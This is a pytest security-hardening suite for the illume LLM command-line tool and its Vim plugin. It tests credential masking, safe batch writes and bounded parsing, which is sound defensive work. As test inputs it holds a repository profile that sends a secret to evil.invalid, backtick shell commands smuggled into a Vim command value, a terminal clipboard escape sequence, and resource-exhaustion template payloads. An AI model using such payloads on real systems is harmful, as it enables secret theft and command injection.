"""Security hardening, each finding with the real CLI as a subprocess where a user would see it.

Profiles and FIM templates are looked up in the user's folder before the
current directory; credentials and keys in URLs, in secret-looking headers
and in the JSON keys a URL interpolates are masked wherever a message can
go (`!debug`, `!error`, `!note`, batch stderr, the Vim buffer); batch writes
keep only permission bits and replace only the runner's own files; the SSE
decoder is linear and bounded; reads, templates and profile chains are
bounded. Servers are scripted (tests/scripted.py): the faults here are
ones a real llama-server does not make.
"""

import base64
import io
import json
import os
import pty
import select
import stat
import subprocess
import sys

import pytest
from conftest import REPO, embedded_model, missing, require_program
from scripted import DONE, ScriptedServer, chat, event, free_port, head, response

KEY = "sk-proj-0123456789abcdefWXYZ"
GOOGLE_KEY = "AIzaSyD3xA9bK2mQ7pLr5tVw8yZ1cE4fG6hJ0kN"
PASSWORD = "hunter2-correct-horse"
BOT = "bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw"


def illume(buffer: str | bytes, *args: str, env: dict | None = None, cwd=None, timeout: float = 60,
           stdout=subprocess.PIPE):
    """Run the CLI as a subprocess (in CWD, default the repository); return the CompletedProcess."""
    data = buffer.encode() if isinstance(buffer, str) else buffer
    full_env = {k: v for k, v in os.environ.items() if not k.startswith("ILLUME_")}
    full_env["PYTHONPATH"] = str(REPO)  # the checkout's illume, from any folder
    full_env.update(env or {})
    return subprocess.run([sys.executable, "-m", "illume", *args], input=data, stdout=stdout,
                          stderr=subprocess.PIPE, env=full_env, timeout=timeout, cwd=cwd or REPO)


def debug_lines(out: bytes) -> list[str]:
    """Return the request line and header lines of a `!debug` dry run."""
    return out.split(b"\n\n")[1].decode().splitlines()


@pytest.fixture
def server():
    with ScriptedServer() as s:
        yield s


# --- 1. profiles and templates: the user's folder before the current directory --------

def test_a_profile_in_the_current_directory_does_not_stand_in_for_the_users(tmp_path):
    repo, config = tmp_path / "cloned-repo", tmp_path / "config"
    repo.mkdir()
    (repo / "work").write_text("!api http://evil.invalid/\n!>authorization Bearer $SECRET\n")
    (config / "illume/profiles").mkdir(parents=True)
    (config / "illume/profiles/work.profile").write_text("!api http://mine.invalid/\n")
    env = {"XDG_CONFIG_HOME": str(config), "SECRET": KEY}
    for buffer, args, extra in [("!profile work\n!user\nhi\n", (), {}), ("!user\nhi\n", ("--profile", "work"), {}),
                                ("!user\nhi\n", (), {"ILLUME_PROFILE": "work"})]:
        result = illume(buffer, "--debug", *args, env={**env, **extra}, cwd=repo)
        assert result.returncode == 0, result.stdout
        assert debug_lines(result.stdout)[:3] == ["POST http://mine.invalid/chat/completions HTTP/1.1",
                                                  "content-type: application/json"]
    # A path still names a file in the current directory.
    result = illume("!profile ./work\n!user\nhi\n", "--debug", env=env, cwd=repo)
    assert debug_lines(result.stdout)[0] == "POST http://evil.invalid/chat/completions HTTP/1.1"


def test_a_fim_template_in_the_current_directory_does_not_stand_in_for_the_users(tmp_path):
    repo, config = tmp_path / "cloned-repo", tmp_path / "config"
    repo.mkdir()
    (repo / "mine.jinja").write_text("EVIL{{ prefix }}")
    (config / "illume/fim_templates").mkdir(parents=True)
    (config / "illume/fim_templates/mine.jinja").write_text("<{{ prefix }}|{{ suffix }}>")
    buffer = "!api http://x.invalid/\n!infill mine.jinja\nA\n!infill\nB\n"
    result = illume(buffer, "--debug", env={"XDG_CONFIG_HOME": str(config)}, cwd=repo)
    assert result.returncode == 0, result.stdout
    assert json.loads(result.stdout.split(b"\n\n")[2])["prompt"] == "<A\n|\nB>"


# --- 2. credentials and keys in URLs --------------------------------------------------

def test_a_url_password_is_not_shown_when_the_server_cannot_be_reached(tmp_path):
    port = free_port()
    buffer = f"!api http://admin:{PASSWORD}@127.0.0.1:{port}/\n!user\nhi\n"
    result = illume(buffer)
    assert result.returncode == 1
    assert result.stdout.startswith(f"\n\n!error\n\ncannot connect to 127.0.0.1:{port}: connection refused".encode())
    assert b"hunter2" not in result.stdout and b"admin" not in result.stdout
    # The same failure in a batch goes to stderr.
    (tmp_path / "a.chat").write_text(buffer)
    result = illume(b"", "--batch", str(tmp_path / "a.chat"))
    assert result.returncode == 1 and f"cannot connect to 127.0.0.1:{port}".encode() in result.stderr
    assert b"hunter2" not in result.stderr and (tmp_path / "a.chat").read_text() == buffer


def test_debug_masks_the_password_and_the_keys_of_a_url():
    url = f'"http://admin:{PASSWORD}@example.invalid/v1beta/models/m:streamGenerateContent?alt=sse&key={GOOGLE_KEY}"'
    result = illume(f"!api {url}\n!user\nhi\n", "--debug")
    assert result.returncode == 0
    assert debug_lines(result.stdout)[0] == ("POST http://admin:***@example.invalid/v1beta/models/"
                                             "m:streamGenerateContent?alt=sse&key=***J0kN HTTP/1.1")
    assert PASSWORD.encode() not in result.stdout and GOOGLE_KEY.encode() not in result.stdout


def test_debug_masks_a_key_in_the_path_and_a_secret_key_interpolated_into_the_url():
    result = illume(f"!api https://api.telegram.invalid/{BOT}/\n!user\nhi\n", "--debug")
    assert debug_lines(result.stdout)[0] == "POST https://api.telegram.invalid/***Dsaw/chat/completions HTTP/1.1"
    result = illume(f"!api http://example.invalid/{{api_key}}/v1\n!:api_key {KEY}\n!user\nhi\n", "--debug")
    assert debug_lines(result.stdout)[0] == "POST http://example.invalid/***WXYZ/v1/chat/completions HTTP/1.1"
    assert KEY.encode() not in result.stdout  # nor in the body, where the original sends it too


def echo(status: int, name: str):
    """Return a reply step: STATUS with a JSON error quoting the request's NAME header."""
    def step(request):
        body = json.dumps({"error": {"message": f"bad {name}: {request.headers.get(name)}", "type": "denied"}})
        return response(status, body)[0]
    return step


def test_the_basic_header_made_of_url_credentials_is_masked(server):
    server.script([echo(401, "authorization")])
    result = illume(f"!api http://admin:{PASSWORD}@127.0.0.1:{server.port}/\n!user\nhi\n")
    basic = base64.b64encode(f"admin:{PASSWORD}".encode())
    assert server.requests[0].headers["authorization"] == f"Basic {basic.decode()}"  # sent in full
    assert result.stdout == f"\n\n!error\n\nHTTP 401: bad authorization: Basic ***{basic[-4:].decode()} (denied)\n".encode()


def test_a_redirect_message_masks_the_url(server):
    server.script([head(308, "text/plain", location="https://example.invalid/v1", content_length="0")])
    url = f'"http://admin:{PASSWORD}@127.0.0.1:{server.port}/v1/chat?key={GOOGLE_KEY}"'
    result = illume(f"!api {url}\n!user\nhi\n")
    # The user name may show (or the URL may show without its credentials), the password never.
    assert result.stdout.startswith(b"\n\n!error\n\nthe server redirected http://")
    assert result.stdout.endswith(f"127.0.0.1:{server.port}/v1/chat?key=***J0kN to https://example.invalid/v1: "
                                  "put that URL in !api\n".encode())
    assert PASSWORD.encode() not in result.stdout and GOOGLE_KEY.encode() not in result.stdout


# --- 3. masking that could be bypassed ------------------------------------------------

def test_the_malformed_event_note_is_masked(server):
    server.script([head(), chat("ok"), lambda request: event(f"echo {request.headers['authorization']}"), DONE])
    result = illume(f"!api {server.url}\n!>authorization Bearer $KEY\n!user\nhi\n", env={"KEY": KEY})
    assert result.stdout == (b"\n\n!assistant\n\nok\n\n!note skipped 1 malformed event(s) from the server, "
                             b"first: echo Bearer ***WXYZ")


def test_a_key_at_the_cut_of_a_long_error_body_is_masked_whole(server):
    server.script([lambda request: response(500, "x" * 1980 + request.headers["x-api-key"] + "y" * 100,
                                            "text/plain")[0]])
    result = illume(f"!api {server.url}\n!>x-api-key $KEY\n!user\nhi\n", env={"KEY": KEY})
    assert result.returncode == 1
    assert KEY[:10].encode() not in result.stdout
    assert result.stdout == b"\n\n!error\n\nHTTP 500: " + b"x" * 1980 + b"***WXYZ" + b"y" * 13 + "…\n".encode()


def test_a_passphrase_is_masked_whole():
    result = illume("!api http://x.invalid/\n!>X-Passphrase $PASS\n!user\nhi\n", "--debug",
                    env={"PASS": "correct horse battery staple"})
    assert "X-Passphrase: ***aple" in debug_lines(result.stdout)
    assert b"horse" not in result.stdout


SECRET_HEADERS = (f"!>x-goog-api-key {GOOGLE_KEY}\n!>cookie session=0123456789abcdef\n"
                  "!>ocp-apim-subscription-key 0123456789abcdef0123\n!>X-Custom-Token tok-literal-value-4567\n"
                  "!>x-plain visible\n")


def test_literal_values_of_secret_looking_headers_are_masked():
    result = illume("!api http://x.invalid/\n" + SECRET_HEADERS + "!user\nhi\n", "--debug")
    assert debug_lines(result.stdout)[1:] == [
        "content-type: application/json", "x-goog-api-key: ***J0kN", "cookie: ***cdef",
        "ocp-apim-subscription-key: ***0123", "X-Custom-Token: ***4567", "x-plain: visible"]


def test_secret_looking_headers_do_not_follow_a_redirect_to_another_host(server):
    with ScriptedServer() as other:
        server.script([head(307, "text/plain", location=f"{other.url}v1", content_length="0")])
        other.script([head(), chat("moved"), DONE])
        result = illume(f"!api {server.url}\n" + SECRET_HEADERS + "!user\nhi\n")
        assert result.stdout == b"\n\n!assistant\n\nmoved"
        assert server.requests[0].headers["x-goog-api-key"] == GOOGLE_KEY
        sent = other.requests[0].headers
    assert sent["x-plain"] == "visible"
    for name in ("x-goog-api-key", "cookie", "ocp-apim-subscription-key", "x-custom-token"):
        assert name not in sent, name


# --- 4. batch writes --------------------------------------------------------------------

def reply_script(server, count: int = 1):
    server.script(*[[head(), chat("Hi"), DONE]] * count)


def test_batch_keeps_only_the_permission_bits(server, tmp_path):
    reply_script(server)
    path = tmp_path / "a.chat"
    path.write_text(f"!api {server.url}\n!user\nhi\n")
    path.chmod(0o4755)
    result = illume(b"", "--batch", str(path))
    assert result.returncode == 0, result.stderr
    assert path.read_text().endswith("\n\n!assistant\n\nHi")
    assert stat.S_IMODE(path.stat().st_mode) == 0o755


def test_batch_output_folder_does_not_read_the_mode_through_a_symbolic_link(server, tmp_path):
    reply_script(server)
    (tmp_path / "a.chat").write_text(f"!api {server.url}\n!user\nhi\n")
    victim = tmp_path / "victim"
    victim.write_text("untouched")
    victim.chmod(0o757)
    out = tmp_path / "out"
    out.mkdir()
    (out / "a.chat").symlink_to(victim)
    umask = os.umask(0o022)
    try:
        result = illume(b"", "--batch", "-o", str(out), str(tmp_path / "a.chat"))
    finally:
        os.umask(umask)
    assert result.returncode == 0, result.stderr
    written = (out / "a.chat").lstat()
    assert stat.S_ISREG(written.st_mode) and stat.S_IMODE(written.st_mode) == 0o644
    assert victim.read_text() == "untouched"


def test_batch_leaves_a_file_of_another_user_alone(server, tmp_path):
    if not hasattr(os, "geteuid") or os.geteuid() != 0:
        missing("root, to give a file to another user", "run the tests as root, as .ci/run does")
    reply_script(server)
    path = tmp_path / "theirs.chat"
    buffer = f"!api {server.url}\n!user\nhi\n"
    path.write_text(buffer)
    os.chown(path, 4242, 4242)
    result = illume(b"", "--batch", str(path))
    assert result.returncode == 1
    assert f"illume: {path}: it belongs to another user (uid 4242)".encode() in result.stderr
    assert path.read_text() == buffer and path.stat().st_uid == 4242


def dead_pid() -> int:
    pid = 4_000_000
    while True:
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            return pid
        except PermissionError:
            pass
        pid -= 1


def test_batch_removes_temporary_files_that_a_killed_run_left(server, tmp_path):
    reply_script(server)
    (tmp_path / "a.chat").write_text(f"!api {server.url}\n!user\nhi\n")
    stale = tmp_path / f".a.chat.illume-{dead_pid()}.tmp"
    running = tmp_path / f".b.chat.illume-{os.getpid()}.tmp"  # a live process's: not touched
    stale.write_text("half a reply")
    running.write_text("being written")
    result = illume(b"", "--batch", str(tmp_path / "a.chat"))
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["a.chat", running.name])


def test_batch_refuses_a_reply_too_big_to_hold(server, tmp_path, monkeypatch):
    from illume import batch
    from illume.answer import Options

    monkeypatch.setattr(batch, "MAX_REPLY_BYTES", 1000)
    server.script([head(), chat("x" * 2000), DONE])
    path = tmp_path / "a.chat"
    buffer = f"!api {server.url}\n!user\nhi\n"
    path.write_text(buffer)
    stderr = io.StringIO()
    status = batch.Batch([str(path)], {}, Options(), 1, None, False, stderr=stderr).run()
    assert status == 1 and path.read_text() == buffer
    assert (f"illume: {path}: the reply grew past 1000 bytes, more than a batch holds in memory; "
            "the reply was not written\n") in stderr.getvalue()


# --- 5. the SSE decoder: bounded, and a timeout that fires while bytes trickle -------

def test_a_stream_that_never_completes_an_event_times_out(server):
    server.script([head(), b"data: "] + [0.25, b"x"] * 40)
    result = illume(f"!api {server.url}\n!user\nhi\n", "--timeout", "1")
    assert result.returncode == 1
    assert result.stdout == (f"\n\n!assistant\n\n\n\n!error\n\ntimed out after 1 s waiting for the reply (127.0.0.1:{server.port}): "
                             "bytes kept coming but no event was complete; set ILLUME_TIMEOUT or --timeout "
                             "to wait longer\n").encode()


# --- low: bounded reads, templates, profile chains, !context depth --------------------

@pytest.mark.parametrize("content_type", ["text/plain", "text/html"])
def test_a_huge_error_or_non_stream_body_is_not_read_whole(server, content_type):
    status = 500 if content_type == "text/plain" else 200
    server.script([head(status, content_type, content_length=str(64 * 2**20)), b"z" * (64 * 2**20)])
    result = illume(f"!api {server.url}\n!user\nhi\n")
    assert result.returncode == 1
    assert result.stdout.startswith(b"\n\n!error\n\n")
    assert server.hangups, "illume read the whole body instead of hanging up"


@pytest.mark.parametrize("template, message", [
    ("{{ 'a' * 10**10 }}", "the template makes a value of more than"),
    ("{{ prefix.center(500000000) }}", "the template passes 500000000"),
    ("{{ prefix|center(500000000) }}", "the template passes 500000000"),
    ("{{ '%0999999999d' % 1 }}", "the template passes 999999999"),
    ("{% set ns = namespace(s='ab') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
     "the template makes a value of more than"),
    ("{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
     "the template ran longer than 2 s"),
])
def test_templates_are_bounded(template, message):
    result = illume(f"!api http://x.invalid/\n!infill {template}\nA\n!infill\nB\n", "--debug")
    assert result.returncode == 1
    assert result.stdout.startswith(f"\n\n!error\n\n!infill: {message}".encode()), result.stdout


def test_a_deep_profile_chain_is_an_error(tmp_path):
    for i in range(400):
        (tmp_path / f"p{i}").write_text(f"!profile ./p{i + 1}\n" if i < 399 else "!api http://x.invalid/\n")
    result = illume("!profile ./p0\n!user\nhi\n", "--debug", cwd=tmp_path)
    assert result.returncode == 1
    assert result.stdout.startswith(b"\n\n!error\n\n<stdin>:1: ./p0:1: ./p1:1: ")
    assert b"profiles nested more than 32 deep: ./p0 -> ./p1 -> ./p2 -> ... -> ./p30 -> ./p31 -> ./p32" \
        in result.stdout


def test_profiles_that_fan_out_stop_at_a_bound(tmp_path):
    for name, child in (("a", "b"), ("b", "c"), ("c", "d")):
        (tmp_path / name).write_text(f"!profile ./{child}\n" * 300)
    (tmp_path / "d").write_text("!api http://x.invalid/\n")
    result = illume("!profile ./a\n!user\nhi\n", "--debug", cwd=tmp_path)
    assert result.returncode == 1
    assert b"more than 256 profile loads for one buffer" in result.stdout


def test_a_deep_context_folder_is_an_error(tmp_path):
    # 1100 deep: past Python's recursion limit, where a recursive walk fails (os.makedirs and rmtree too).
    folders = [os.path.join(str(tmp_path), "top", *["d"] * depth) for depth in range(1101)]
    for folder in folders:
        os.mkdir(folder)
    try:
        result = illume("!api http://x.invalid/\n!user\n!context top .py\n", "--debug", cwd=tmp_path)
    finally:
        for folder in reversed(folders):
            os.rmdir(folder)
    assert result.returncode == 1
    assert result.stdout.startswith(b"\n\n!error\n\n<stdin>:3: !context: folders nested more than 100 deep under ")


# --- low: terminal escape sequences ---------------------------------------------------

def test_control_sequences_in_a_reply_are_written_out_on_a_terminal(server):
    reply = "\x1b]52;c;ZXZpbA==\x07\x1b[2Jred\x9b1m\r\nnext\rover"
    server.script([head(), chat(reply), DONE], [head(), chat(reply), DONE])
    controller, terminal = pty.openpty()
    try:
        process = subprocess.Popen([sys.executable, "-m", "illume"], stdin=subprocess.PIPE, stdout=terminal,
                                   stderr=subprocess.PIPE, cwd=REPO,
                                   env={**os.environ, "PYTHONPATH": str(REPO)})
        os.close(terminal)
        process.stdin.write(f"!api {server.url}\n!user\nhi\n".encode())
        process.stdin.close()
        shown = b""
        while True:
            ready, _, _ = select.select([controller], [], [], 60)
            try:
                piece = os.read(controller, 65536) if ready else b""
            except OSError:  # the terminal closed
                piece = b""
            if not piece:
                break
            shown += piece
        assert process.wait(60) == 0
    finally:
        os.close(controller)
    # The terminal itself turns each \n into \r\n (so the reply's own \r\n arrives as \r\r\n).
    assert shown == "\r\n\r\n!assistant\r\n\r\n^[]52;c;ZXZpbA==^G^[[2Jred^[[1m\r\r\nnext^Mover".encode()
    # Into a pipe the bytes go as they came, as the original sends them.
    assert illume(f"!api {server.url}\n!user\nhi\n").stdout == f"\n\n!assistant\n\n{reply}".encode()


# --- low: the Vim plugin --------------------------------------------------------------

VIM_SCRIPT = """\
set nocompatible hidden noswapfile nomore modeline
let &runtimepath = {plugin} . ',' . &runtimepath
let g:illume_command = {command}
runtime plugin/illume.vim
try
  execute 'edit' fnameescape({file})
{commands}
catch
  call writefile([v:exception, v:throwpoint], {errors})
endtry
call writefile(split(execute('messages'), "\\n"), {messages})
qall!
"""

WAIT_FOR_REPLY = """\
  Illume
  let s:start = reltime()
  while illume#running() && reltimefloat(reltime(s:start)) < 60
    sleep 20m
  endwhile
  write
"""


def vim_string(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


@pytest.fixture(params=["vim", "nvim"])
def editor(request):
    path = require_program(request.param, f"apt-get install {'neovim' if request.param == 'nvim' else 'vim'}")
    return request.param, path


def run_editor(editor, tmp_path, buffer: str, commands: str, command: list[str]) -> tuple[str, str]:
    """Run COMMANDS in EDITOR on a file holding BUFFER; return the file after and the editor's messages."""
    name, path = editor
    file, errors, messages = tmp_path / "chat.txt", tmp_path / "errors.txt", tmp_path / "messages.txt"
    file.write_text(buffer)
    script = tmp_path / "test.vim"
    script.write_text(VIM_SCRIPT.format(
        plugin=vim_string(str(REPO / "vim")), command="[" + ", ".join(map(vim_string, command)) + "]",
        file=vim_string(str(file)), commands=commands, errors=vim_string(str(errors)),
        messages=vim_string(str(messages))))
    argv = ([path, "-Nu", "NONE", "-i", "NONE", "-n", "-es", "-S", str(script)] if name == "vim" else
            [path, "--headless", "-u", "NONE", "-i", "NONE", "-n", "-S", str(script)])
    env = {**os.environ, "HOME": str(tmp_path), "XDG_CONFIG_HOME": str(tmp_path / "config"),
           "XDG_DATA_HOME": str(tmp_path / "data"), "XDG_STATE_HOME": str(tmp_path / "state"),
           "PYTHONPATH": str(REPO), "ILLUME_TEST_PYTHON": sys.executable}
    subprocess.run(argv, cwd=tmp_path, env=env, stdin=subprocess.DEVNULL, capture_output=True, timeout=180)
    assert not errors.exists(), errors.read_text()
    return file.read_text(), messages.read_text()


def test_vim_command_expands_variables_without_a_shell(editor, tmp_path, server):
    server.script([head(), chat("Hi"), DONE])
    buffer = f"!api {server.url}\n!user\nhi\n"
    after, _ = run_editor(editor, tmp_path, buffer, WAIT_FOR_REPLY, ["$ILLUME_TEST_PYTHON", "-m", "illume"])
    assert after == buffer + "\n!assistant\n\nHi\n"
    # expand() would run the backticks through a shell.
    run_editor(editor, tmp_path, buffer, "  Illume\n  sleep 500m\n", ["$HOME/`touch PWNED`"])
    run_editor(editor, tmp_path, buffer, "  Illume\n  sleep 500m\n", ["~/`touch PWNED`"])
    assert not list(tmp_path.rglob("PWNED*"))


def test_a_chat_file_is_read_without_its_modelines(editor, tmp_path):
    buffer = "!user\nhi\n\n!assistant\n\nSure.\n# vim: set tabstop=3 :\n"
    out = tmp_path / "tabstop.txt"
    run_editor(editor, tmp_path, buffer, f"  call writefile([&tabstop], {vim_string(str(out))})\n", ["illume"])
    assert out.read_text() == "8\n"
    # Any other file keeps its modelines.
    buffer = "code\n# vim: set tabstop=3 :\n"
    run_editor(editor, tmp_path, buffer, f"  call writefile([&tabstop], {vim_string(str(out))})\n", ["illume"])
    assert out.read_text() == "3\n"


def test_the_vim_buffer_shows_no_url_password(editor, tmp_path):
    port = free_port()
    buffer = f"!api http://admin:{PASSWORD}@127.0.0.1:{port}/\n!user\nhi\n"
    after, messages = run_editor(editor, tmp_path, buffer, WAIT_FOR_REPLY, ["$ILLUME_TEST_PYTHON", "-m", "illume"])
    assert after == buffer + (f"\n!error\n\ncannot connect to 127.0.0.1:{port}: connection refused "
                              "(is the server running?)\n\n")
    assert PASSWORD not in messages


# --- low: the embedded backend's grammar ----------------------------------------------

DEEP_GRAMMAR = "root ::= " + "(" * 200000 + '"a"' + ")" * 200000


def test_a_deeply_nested_grammar_is_refused_before_llama_cpp_sees_it():
    from illume.backends import gbnf
    from illume.errors import BufferError

    assert gbnf.depth('root ::= ("(" [(] x) # ((((\nx ::= "\\"("') == 1
    with pytest.raises(BufferError, match=r"^!:grammar: parentheses nest more than 200 deep$"):
        gbnf.check(DEEP_GRAMMAR)
    with pytest.raises(BufferError, match=r"^!:grammar: the grammar is 2000009 characters, over the 1048576 allowed$"):
        gbnf.check("root ::= " + '"a" ' * 500000)


@pytest.mark.embedded
def test_a_deeply_nested_grammar_is_an_error_not_a_crash():
    embedded_model()
    result = illume(f"!profile embedded\n!:max_tokens 4\n!:grammar {DEEP_GRAMMAR}\n!user\nhi\n", timeout=300)
    assert (result.returncode, result.stdout) == (
        1, b"\n\n!error\n\n!:grammar: parentheses nest more than 200 deep\n")
